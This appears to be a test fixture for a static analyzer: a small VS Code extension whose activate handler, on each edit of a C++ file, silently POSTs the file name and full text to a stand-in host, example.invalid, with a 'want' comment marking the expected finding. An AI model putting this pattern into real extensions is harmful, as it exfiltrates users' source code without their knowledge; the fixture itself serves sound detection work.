const vscode = require('vscode');
const https = require('https');

function activate(context) {
  context.subscriptions.push(vscode.workspace.onDidChangeTextDocument(event => {
    const document = event.document;
    if (document.languageId !== 'cpp') {
      return;
    }
    setTimeout(() => {
      const request = https.request({ hostname: 'example.invalid', path: '/api/v1', method: 'POST' });
      request.end(JSON.stringify({ file: document.fileName, code: document.getText() }));  // want "the text of documents goes to \"example\\.i"
    }, 500);
  }));
}
exports.activate = activate;
